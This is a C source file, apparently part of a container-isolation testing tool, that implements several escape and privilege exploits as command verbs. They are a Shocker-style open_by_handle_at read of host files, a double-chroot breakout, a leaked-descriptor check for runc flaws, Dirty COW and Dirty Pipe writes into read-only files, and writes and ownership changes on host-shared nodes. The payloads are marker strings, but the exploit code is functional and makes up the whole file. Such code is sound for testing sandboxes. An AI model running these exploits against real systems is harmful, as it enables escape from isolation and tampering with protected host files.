// Escapes that go through files: the kernel's own, handles of the host's, what is left open, what
// is only readable, and nodes that a container shares with the host.
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

/** "write PATH TEXT …": each file in turn. */
static int v_write(int argc, char **argv) {
  for (int i = 1; i + 1 < argc; i += 2) {
    int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    if (fd < 0) {
      TELL(argv[i], "%s", outcome(-1));
      continue;
    }
    long written = *argv[i + 1] ? write(fd, argv[i + 1], strlen(argv[i + 1])) : 0;
    TELL(argv[i], "%s", outcome(written));
    close(fd);
  }
  return 0;
}

/** "chmod PATH…": mode, owner and times of a node that may be the host's. */
static int v_node(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    struct timespec times[2] = {{.tv_sec = 12345}, {.tv_sec = 12345}};
    struct stat s;
    if (stat(argv[i], &s) < 0) {
      TELL(argv[i], "%s", outcome(-1));
      continue;
    }
    long result = utimensat(AT_FDCWD, argv[i], times, 0);
    if (result < 0) result = chmod(argv[i], s.st_mode & 07777);
    if (result < 0) result = chown(argv[i], s.st_uid, s.st_gid);
    TELL(argv[i], "%s", outcome(result));
  }
  return 0;
}

/** On the host: "handle-of PATH" prints a file's handle. */
static int v_handle_of(int argc, char **argv) {
  if (argc < 2) return 2;
  struct { struct file_handle head; unsigned char bytes[128]; } handle;
  handle.head.handle_bytes = sizeof handle.bytes;
  int mount;
  if (name_to_handle_at(AT_FDCWD, argv[1], &handle.head, &mount, 0) < 0) {
    TELL("handle", "%s", outcome(-1));
    return 1;
  }
  printf("%d ", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.bytes[i]);
  printf("\n");
  return 0;
}

/** "shocker TYPE HEX PATH": opens a handle of the host through a mount that the host lent. */
static int v_shocker(int argc, char **argv) {
  if (argc < 4) return 2;
  struct { struct file_handle head; unsigned char bytes[128]; } handle = {
      .head.handle_type = atoi(argv[1]), .head.handle_bytes = (unsigned)strlen(argv[2]) / 2};
  for (unsigned i = 0; i < handle.head.handle_bytes && i < sizeof handle.bytes; i++) {
    unsigned byte;
    sscanf(argv[2] + 2 * i, "%2x", &byte);
    handle.bytes[i] = (unsigned char)byte;
  }
  int mount = open(argv[3], O_RDONLY);
  int fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
  char text[256] = "";
  if (fd >= 0 && read(fd, text, sizeof text - 1) < 0) TELL("read", "%s", outcome(-1));
  if (fd >= 0) TELL("content", "%s", text);
  else TELL("open_by_handle_at", "%s", outcome(-1));
  return 0;
}

/** "reads PATH…": what can be read of each file, at most a line. */
static int v_reads(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    int fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_NOCTTY);
    char text[128] = "";
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    text[strcspn(text, "\n")] = 0;
    TELL(argv[i], "%s", n < 0 ? outcome(-1) : n == 0 ? "empty" : text);
    if (fd >= 0) close(fd);
  }
  return 0;
}

/** Whether a folder is the container's root or below: up from it by "..", at most so far. */
static bool inside(int fd) {
  struct stat root, here;
  if (stat("/", &root) < 0) return false;
  int at = dup(fd);
  for (int depth = 0; at >= 0 && depth < 64; depth++) {
    struct stat parent;
    if (fstat(at, &here) < 0) break;
    if (here.st_ino == root.st_ino && here.st_dev == root.st_dev) {
      close(at);
      return true;
    }
    int up = openat(at, "..", O_PATH | O_DIRECTORY);
    close(at);
    at = up;
    if (at < 0 || fstat(at, &parent) < 0) break;
    if (parent.st_ino == here.st_ino && parent.st_dev == here.st_dev) break; // a root of its own
  }
  if (at >= 0) close(at);
  return false;
}

/** Descriptors and folders that lead out (CVE-2024-21626, CVE-2016-9962). */
static int v_descriptors(int argc, char **argv) {
  (void)argc, (void)argv;
  int cwd = open(".", O_PATH | O_DIRECTORY);
  TELL("cwd", "%s", inside(cwd) ? "inside" : "OUTSIDE");
  for (int fd = 3; fd < 1024; fd++) {
    if (fd == cwd || fcntl(fd, F_GETFD) < 0) continue;
    char path[40], target[256] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof target - 1) < 0) continue;
    TELL(path, "%s", target);
  }
  return 0;
}

/** The double chroot: with CAP_SYS_CHROOT, out of what is only a chroot. */
static int v_chroot(int argc, char **argv) {
  (void)argc, (void)argv;
  struct stat before, after;
  stat("/", &before);
  mkdir("/tmp/jail", 0700);
  int home = open("/", O_RDONLY | O_DIRECTORY);
  TELL("chroot", "%s", outcome(chroot("/tmp/jail")));
  fchdir(home);
  for (int i = 0; i < 64; i++) {
    if (chdir("..") < 0) break;
  }
  chroot(".");
  stat("/", &after);
  bool same = before.st_ino == after.st_ino && before.st_dev == after.st_dev;
  TELL("root", "%s", same ? "the same" : "ANOTHER");
  return 0;
}

// ---- files that can only be read (CVE-2016-5195, CVE-2022-0847)

struct cow { void *map; int fd; const char *text; volatile bool stop; };

static void *advise(void *argument) {
  struct cow *c = argument;
  while (!c->stop) madvise(c->map, 100, MADV_DONTNEED);
  return NULL;
}

/** "dirty-cow PATH": a write to a private mapping that races with the mapping's end. */
static int v_dirty_cow(int argc, char **argv) {
  if (argc < 2) return 2;
  int file = open(argv[1], O_RDONLY);
  struct cow c = {.text = "DIRTY COW"};
  c.map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  c.fd = open("/proc/self/mem", O_RDWR);
  TELL("mapping", "%s", outcome(file < 0 || c.map == MAP_FAILED || c.fd < 0 ? -1 : 0));
  pthread_t thread;
  pthread_create(&thread, NULL, advise, &c);
  for (int i = 0; i < 20000; i++) {
    if (pwrite(c.fd, c.text, strlen(c.text), (off_t)(uintptr_t)c.map) < 0 && i == 0) {
      TELL("write", "%s", outcome(-1));
    }
  }
  c.stop = true;
  pthread_join(thread, NULL);
  return 0;
}

/** "dirty-pipe PATH": a pipe whose buffers once could be merged into the page of a file. */
static int v_dirty_pipe(int argc, char **argv) {
  if (argc < 2) return 2;
  int ends[2], file = open(argv[1], O_RDONLY);
  if (pipe(ends) < 0) return 1;
  char page[4096] = "";
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= (int)sizeof page) {
    if (write(ends[1], page, sizeof page) < 0) break;
  }
  for (int left = size; left > 0; left -= (int)sizeof page) {
    if (read(ends[0], page, sizeof page) < 0) break;
  }
  loff_t offset = 0;
  TELL("splice", "%s", outcome(splice(file, &offset, ends[1], NULL, 1, 0)));
  TELL("write", "%s", outcome(write(ends[1], "DIRTY PIPE", 10)));
  return 0;
}

const struct verb file_verbs[] = {
    {"write", v_write},         {"node", v_node},       {"handle-of", v_handle_of},
    {"shocker", v_shocker},     {"reads", v_reads},     {"descriptors", v_descriptors},
    {"chroot", v_chroot},       {"dirty-cow", v_dirty_cow}, {"dirty-pipe", v_dirty_pipe},
    {NULL, NULL},
};
